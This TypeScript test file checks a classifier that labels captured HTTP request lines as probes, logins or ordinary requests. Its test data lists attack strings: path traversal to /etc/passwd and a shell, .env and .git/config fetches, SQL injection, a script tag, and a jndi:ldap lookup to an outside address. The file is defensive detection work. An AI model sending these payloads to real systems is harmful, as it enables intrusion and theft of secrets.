// Request lines by what they ask for: pages, known holes, password checks, cut lines.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { bytesOf } from '../../../src/ingest/bytes.ts';
import { requestKind } from '../../../src/ingest/packet/request-kind.ts';
import { REQUEST_KIND } from '../../../src/model/batch.ts';

function kindOf(line: string, end = line.length): number {
  const bytes = Buffer.from(`..${line}`, 'latin1');
  return requestKind(bytesOf(bytes), 2, 2 + end);
}

test('known holes in path and query are probes, in every spelling', () => {
  for (const target of [
    '/../../etc/passwd',
    '/cgi-bin/.%2e/.%2e/bin/sh',
    '/.ENV',
    '/blog/%2Egit/config',
    '/static/%2e%2e%2f%2e%2e%2fetc/hosts',
    '/%252e%252e/',
    '/phpMyAdmin/index.php',
    "/tea?id=1'+UNION+SELECT+1--",
    '/?q=%3Cscript%3E',
    '/%7Bjndi:ldap://192.0.2.1/a}',
  ])
    for (const method of ['GET', 'HEAD', 'POST', 'PUT'])
      assert.equal(kindOf(`${method} ${target} HTTP/1.1\r\n`), REQUEST_KIND.probe, `${method} ${target}`);
});

test('pages are ordinary, and so are words that only look like SQL', () => {
  for (const target of [
    '/',
    '/search?q=select+a+tea+union+jack',
    "/search?q=o%27brien's",
    '/vendor/bootstrap/bootstrap.min.js',
    '/shell-necklaces',
    '/a..b/c...d',
    '/%',
    '/environment',
    '*',
  ])
    assert.equal(kindOf(`POST ${target} HTTP/1.1\r\n`), REQUEST_KIND.ordinary, target);
});

test('a log-in is posted; what is fetched is the page', () => {
  for (const path of ['/wp-login.php', '/xmlrpc.php', '/Login', '/user/login?next=/']) {
    assert.equal(kindOf(`POST ${path} HTTP/1.1\r\n`), REQUEST_KIND.login, path);
    for (const method of ['GET', 'PUT'])
      assert.equal(kindOf(`${method} ${path} HTTP/1.1\r\n`), REQUEST_KIND.ordinary, path);
  }
});

test('only the request line counts, and only as far as it was captured', () => {
  assert.equal(kindOf('GET / HTTP/1.1\r\nReferer: /../../etc/passwd\r\n'), REQUEST_KIND.ordinary);
  assert.equal(kindOf('GET /\r\n/../../etc/passwd'), REQUEST_KIND.ordinary);
  const line = 'GET /%2e%2e%2f HTTP/1.1';
  for (let end = 4; end <= line.length; end++)
    assert.equal(
      kindOf(line, end),
      end >= 'GET /%2e%2e%2f'.length ? REQUEST_KIND.probe : REQUEST_KIND.ordinary,
      String(end),
    );
  assert.equal(kindOf(`GET /${'a'.repeat(5000)}/../ HTTP/1.1`), REQUEST_KIND.ordinary);
});
